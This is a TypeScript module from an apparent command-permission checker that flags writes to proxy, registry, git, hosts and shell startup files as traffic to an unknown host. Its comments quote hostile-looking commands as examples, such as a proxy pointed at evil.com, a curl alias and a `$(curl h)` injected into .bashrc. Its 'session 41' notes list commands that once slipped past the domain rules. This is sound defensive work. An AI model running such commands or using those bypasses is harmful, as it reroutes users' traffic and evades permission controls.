// Files whose text tells later commands where to connect: a proxy, a registry or package index,
// a git remote or URL rewrite, an ssh jump host, a name's address (hosts, resolv.conf). A line
// that writes one by a redirect or a plain writer (`echo 'proxy = evil.com' >> ~/.curlrc`, `tee
// -a .npmrc`, `cp x ~/.gitconfig`, `Set-Content $HOME\.curlrc …`) may send later traffic to any
// host, as `git config --global http.proxy H` and `npm config set proxy H` do (their hosts are
// read: proxy-settings.ts). The text written is not read: an unknown host, which asks wherever
// Domain deny or ask rules exist. The tools that manage these files (git config, npm config, …)
// keep their own readers. Shell and session startup files are such files too: what they export or
// alias (`export https_proxy=H`, `alias curl='curl -x H'`) sets where every later shell's commands
// connect, so a write of one is an unknown host as well, whatever text it writes (session 41).

import type { UrlRef } from './arguments.js';
import type { FileTouches } from './file-touches.js';

/** Such a file, by its last segments (`/` or `\`, any case). */
export const TRAFFIC_FILE = new RegExp(`(?:^|[\\\\/])(?:${[
  '[._]?curlrc', '[._]?wgetrc', '[._]?npmrc', '\\.yarnrc(?:\\.yml)?', 'pip\\.(?:conf|ini)', '\\.pydistutils\\.cfg', '\\.pypirc',
  '[._]?gitconfig', '\\.gitmodules', '[._]?condarc', '[._]?gemrc', 'resolv\\.conf', 'ssh_config',
  '\\.?git[\\\\/]config', '\\.ssh[\\\\/]config', 'etc[\\\\/]hosts', 'etc[\\\\/]environment', 'go[\\\\/]env', '\\.cargo[\\\\/]config(?:\\.toml)?',
  '\\.docker[\\\\/]config\\.json', 'docker[\\\\/]daemon\\.json', '\\.bundle[\\\\/]config', '\\.m2[\\\\/]settings\\.xml',
  'apt[\\\\/]apt\\.conf', 'apt\\.conf\\.d[\\\\/][^\\\\/]+', 'apt[\\\\/]sources\\.list', 'sources\\.list\\.d[\\\\/][^\\\\/]+',
  // (Session 41: uv's index, NuGet's package sources, bun's registry, a worktree's git settings.)
  '[._]?uv\\.toml', 'nuget\\.config', '\\.?bunfig\\.toml', 'config\\.worktree',
  // (Startup files: bash, zsh, ksh, csh, fish, PAM's and systemd's session variables, PowerShell's profiles. Not
  // direnv's .envrc: direnv loads a changed one only after the user's `direnv allow`.)
  '\\.bashrc', '\\.bash_profile', '\\.bash_login', '\\.bash_logout', '\\.profile', '\\.zshenv', '\\.zshrc', '\\.zprofile', '\\.zlogin', '\\.zlogout',
  '\\.kshrc', '\\.mkshrc', '\\.cshrc', '\\.tcshrc', '\\.login', '\\.pam_environment', '\\.bashrc\\.d[\\\\/][^\\\\/]+',
  'fish[\\\\/]config\\.fish', 'fish[\\\\/]fish_variables', 'fish[\\\\/]conf\\.d[\\\\/][^\\\\/]+', 'environment\\.d[\\\\/][^\\\\/]+',
  'etc[\\\\/]profile', 'profile\\.d[\\\\/][^\\\\/]+', 'etc[\\\\/]bash\\.bashrc', 'etc[\\\\/]bashrc', 'etc[\\\\/](?:zsh[\\\\/])?z(?:shenv|shrc|profile|login|logout)',
  'etc[\\\\/]csh\\.(?:cshrc|login)', '\\.ssh[\\\\/](?:rc|environment)', '[^\\\\/]*profile\\.ps1',
].join('|')})$`, 'i');

/** A submodule's git settings, `.git/modules/NAME/config` (its remote URL; names may hold `/`). */
const SUBMODULE_GIT = /\.git[\\/]modules[\\/]/i;
const LAST_CONFIG = /[\\/]config$/i;

/**
 * The last segments (lower case) TRAFFIC_FILE may end with, outside the `NAME.d/` directories and
 * PowerShell's `*profile.ps1`: a test before the pattern, which every Edit operation meets where
 * Domain deny or ask rules exist (the pattern alone cost ~0.4 µs of a ~0.7 µs Edit decision).
 */
const LAST_SEGMENTS: ReadonlySet<string> = new Set([
  ...['curlrc', 'wgetrc', 'npmrc', 'gitconfig', 'condarc', 'gemrc', 'uv.toml'].flatMap((n) => [n, `.${n}`, `_${n}`]),
  '.yarnrc', '.yarnrc.yml', 'pip.conf', 'pip.ini', '.pydistutils.cfg', '.pypirc', '.gitmodules', 'resolv.conf', 'ssh_config', 'config', 'hosts',
  'environment', 'env', 'config.toml', 'config.json', 'daemon.json', 'settings.xml', 'apt.conf', 'sources.list',
  'nuget.config', 'bunfig.toml', '.bunfig.toml', 'config.worktree',
  '.bashrc', '.bash_profile', '.bash_login', '.bash_logout', '.profile', '.zshenv', '.zshrc', '.zprofile', '.zlogin', '.zlogout', '.kshrc', '.mkshrc',
  '.cshrc', '.tcshrc', '.login', '.pam_environment', 'config.fish', 'fish_variables', 'profile', 'bash.bashrc', 'bashrc', 'zshenv', 'zshrc',
  'zprofile', 'zlogin', 'zlogout', 'csh.cshrc', 'csh.login', 'rc',
]);

/** LAST_SEGMENTS by length and last letter (`| 32`: either case): a test that allocates nothing. */
const LAST_SEGMENT_KEYS: ReadonlySet<number> = new Set([...LAST_SEGMENTS].map((n) => n.length * 128 + (n.charCodeAt(n.length - 1) | 32)));
/** `profile.ps1`'s length. */
const PS1_PROFILE = 11;

/** Whether writing `path` may change where later commands connect. */
export function routesTraffic(path: string): boolean {
  // (Windows drops a name's trailing dots and spaces: `.npmrc.` is .npmrc; elsewhere a reading more.)
  let end = path.length;
  while (end > 0 && (path.charCodeAt(end - 1) === 46 || path.charCodeAt(end - 1) === 32)) end--;
  const name = end === path.length ? path : path.slice(0, end);
  const slash = lastSeparator(name);
  // (A file in a `NAME.d` directory: apt.conf.d, sources.list.d, profile.d, conf.d, environment.d, .bashrc.d.)
  const inDotD = slash >= 2 && name.charCodeAt(slash - 2) === 46 && (name.charCodeAt(slash - 1) | 32) === 100;
  if (!inDotD) {
    const length = name.length - slash - 1;
    const last = name.charCodeAt(name.length - 1);
    const profile = last === 49 /* 1 */ && length >= PS1_PROFILE && name.slice(-PS1_PROFILE).toLowerCase() === 'profile.ps1';
    if (!profile && !(LAST_SEGMENT_KEYS.has(length * 128 + (last | 32)) && LAST_SEGMENTS.has(name.slice(slash + 1).toLowerCase()))) return false;
  }
  return TRAFFIC_FILE.test(name) || (LAST_CONFIG.test(name) && SUBMODULE_GIT.test(name));
}

/** The index of the last `/` or `\\` in the path, or -1. */
export function lastSeparator(name: string): number {
  // (A loop back over the last segment: lastIndexOf over the whole path measured ~0.1 µs. Past
  // 64 characters lastIndexOf: `zip 'a%2fa%2f…'` looped back over 10,000 several times.)
  let slash = name.length - 1;
  const stop = name.length - 64;
  for (let c = name.charCodeAt(slash); slash >= 0 && c !== 47 && c !== 92; c = name.charCodeAt(--slash)) {
    if (slash === stop) return Math.max(name.lastIndexOf('/', slash), name.lastIndexOf('\\', slash));
  }
  return slash;
}

/** The unknown host a write of `path` stands for (`text`: the part's source). */
export function trafficFileUrl(path: string, text: string): UrlRef {
  return { url: path, text, scope: 'restrict', dynamic: true };
}

/**
 * The tools that manage these files, whose own readers read the hosts they set (proxy-settings.ts,
 * git keys, package-hosts.ts): a write of theirs is not an unknown host (`git config user.name x`
 * writes ~/.gitconfig). Any other known program's write is (session 41: `curl -o .npmrc URL`,
 * `sort -o .npmrc`, `uniq a .npmrc`, `sponge .npmrc` were allowed: only plain writers were read).
 * git is read apart: its write of a file not its own is (foreignToGit).
 */
export const TRAFFIC_FILE_MANAGERS: ReadonlySet<string> = new Set([
  'git', 'npm', 'pnpm', 'yarn', 'pip', 'pip3', 'conda', 'mamba', 'gem', 'bundle', 'bundler', 'go', 'cargo', 'docker', 'podman',
  'gcloud', 'gsettings', 'dconf', 'scutil', 'reg', 'ssh-keygen',
]);

/** git's own configuration files, whose keys git config's reader reads (proxy-settings.ts, git-config-keys.ts). */
const GIT_CONFIG_FILE = /(?:^|[\\/])(?:[._]?gitconfig|\.gitmodules|\.?git[\\/]config)$/i;

/** Whether a file git writes is no configuration of git's own (`git config -f ~/.bashrc a.b '$(curl h)'`): git's text there is any text. */
export function foreignToGit(path: string): boolean {
  return !GIT_CONFIG_FILE.test(path);
}

/** A known program's written paths that route traffic: an unknown host each. */
export function trafficFileWrites(t: FileTouches, only?: (path: string) => boolean): void {
  for (const p of t.paths) if (p.op === 'edit' && routesTraffic(p.path) && (only === undefined || only(p.path))) t.url(p.path, true);
}

/**
 * Any known program's output file (`curl -o .npmrc URL`, `sort -o`, `uniq a .npmrc`, `sponge`, an
 * interpreter's code's `open('/home/u/.curlrc','w')`): not the tools that manage these files, but
 * git's write of a file not its own.
 */
export function programTrafficWrites(name: string, t: FileTouches, words: readonly string[] = []): FileTouches {
  if (name === 'git') trafficFileWrites(t, foreignToGit);
  else if (!TRAFFIC_FILE_MANAGERS.has(name)) trafficFileWrites(t);
  treeTrafficWrites(name, words, t);
  return t;
}

/**
 * Programs that copy, extract or link files into their destination directory, whatever their reading
 * marks below it (`cp -rT d ~` writes ~ itself as d's copy, `stow -t ~ d` links d's files into ~).
 * Not a deleter's or a mode changer's tree (`rm -rf ~/.cache/x`, `chmod -R`): they drop no file.
 */
const TREE_WRITERS: ReadonlySet<string> = new Set(['cp', 'gcp', 'rsync', 'mv', 'gmv', 'ditto', 'rclone', 'scp', 'stow', 'xstow', 'tar', 'gtar',
  'bsdtar', 'unzip', 'cpio', 'pax', '7z', '7za', 'unrar', 'ln', 'gln', 'install', 'ginstall', 'xcopy', 'robocopy', 'gio',
  // (Session 42: more extractors, and checkouts: checkout-writes.ts.)
  '7zz', '7zr', 'bsdcpio', 'bsdunzip', 'jar', 'unar', 'lha', 'arj', 'cabextract', 'unsquashfs', 'dpkg-deb', 'ar', 'svn', 'hg', 'copier', 'degit', 'tiged']);
/** Programs whose subcommand copies or checks out a tree (`docker cp c:/root/. ~`, `git clone URL ~/.config`). */
const TREE_SUBCOMMANDS: ReadonlyMap<string, ReadonlySet<string>> = new Map([
  ['git', new Set(['clone', 'worktree', 'submodule', 'restore', 'checkout', 'switch', 'reset', 'stash', 'pull', 'merge', 'rebase', 'apply', 'am',
    'cherry-pick', 'revert', 'read-tree', 'checkout-index'])],
  ['docker', new Set(['cp'])], ['podman', new Set(['cp'])], ['kubectl', new Set(['cp'])], ['oc', new Set(['cp', 'rsync'])],
  ['gh', new Set(['clone'])], ['aws', new Set(['cp', 'sync'])], ['gsutil', new Set(['cp', 'rsync'])], ['gcloud', new Set(['cp', 'rsync'])],
  ['az', new Set(['download-batch'])],
  ['dpkg', new Set(['-x', '--extract', '-X', '--vextract', '-R', '--raw-extract'])],
  ...['python', 'python3'].map((n) => [n, new Set(['zipfile', 'tarfile'])] as const),
]);

/** Whether a command writes whole trees where its edits lie (TREE_WRITERS, or a subcommand of TREE_SUBCOMMANDS among its plain words, read loosely). */
export function writesTrees(name: string, words: readonly string[]): boolean {
  if (TREE_WRITERS.has(name)) return true;
  const subs = TREE_SUBCOMMANDS.get(name);
  return subs !== undefined && words.some((w, i) => i > 0 && subs.has(w));
}

/** A tree git writes whose settings are git's own: a clone's `.git` (its remote is the clone's URL, which git's reader reads). */
export function ownTree(name: string, path: string): boolean {
  return name === 'git' && GIT_DIRECTORY.test(path);
}
const GIT_DIRECTORY = /(?:^|[\\/])\.git(?:[\\/]|$)/;
/** Dotfile managers: what they write into the home directory is their repository's, which the line does not show. */
export const DOTFILE_MANAGERS: ReadonlySet<string> = new Set(['chezmoi', 'yadm', 'rcup', 'dotbot', 'homeshick', 'homesick', 'home-manager', 'stow', 'xstow']);
/** chezmoi's and yadm's subcommands that write nothing into the home directory. */
const DOTFILE_READERS: ReadonlySet<string> = new Set(['diff', 'status', 'managed', 'unmanaged', 'cat', 'doctor', 'data', 'help', 'list', 'ls', 'log', 'verify', 'source-path', 'target-path', 'dump', 'ignored', 'execute-template', '--help', '-h', '--version', 'version', 'cd', 'git']);

/**
 * A write of a whole tree into a directory that holds shell startup or traffic settings files
 * (session 41: `tar xf x.tar -C ~`, `unzip -o x.zip -d ~`, `cp -r dotfiles/. ~/`, `rsync -a d/ ~/`,
 * `stow -t ~ d`, `chezmoi apply` were allowed beside Domain rules: the files it drops, `~/.bashrc`,
 * `~/.curlrc`, were not named): an unknown host. The directory as written: the home directory or
 * one above it, a dot directory in it (`~/.config`, `~/.ssh`), /etc or below, a `.git` directory, or
 * one the line cannot name (`"$D"`). Not a tree write into the working directory (`cp -r src dist`).
 */
function treeTrafficWrites(name: string, words: readonly string[], t: FileTouches): void {
  if (DOTFILE_MANAGERS.has(name) && !(words[1] !== undefined && DOTFILE_READERS.has(words[1]))) t.url('~', true);
  if (!writesTrees(name, words)) return;
  for (const p of t.paths) if (p.op === 'edit' && holdsSettingsFiles(p.path, p.dynamic) && !ownTree(name, p.path)) t.url(p.path, true);
}

/** A path's text where settings files lie below (treeTrafficWrites): `.`/`/` ends dropped, `$HOME`'s spellings read as `~`. */
export function holdsSettingsFiles(path: string, dynamic: boolean): boolean {
  let end = path.length;
  while (end > 1 && (path[end - 1] === '/' || (path[end - 1] === '.' && path[end - 2] === '/'))) end--;
  const dir = path.slice(0, end).replace(/^(?:\$HOME|\$\{HOME\}|\$\{HOME[:-][^}]*\})(?=\/|$)/, '~');
  if (dir === '~' || /^~[^/]*$/.test(dir) || dir.startsWith('~/.') || /(?:^|\/)\.git(?:\/|$)/.test(dir)) return true;
  // (`/`, `/home`, `/home/u`, `/root`, `/Users/u`, `/var/root`, and a home's dot directories; /etc and below.)
  if (/^\/(?:(?:home|Users)(?:\/[^/]+(?:\/\..*)?)?|root(?:\/\..*)?|var(?:\/root)?|etc(?:\/.*)?)?$/.test(dir)) return true;
  // (A directory the line cannot name, `"$D"`, `$(pwd)`: it may be the home directory.)
  return dynamic && /^[$`]/.test(dir);
}
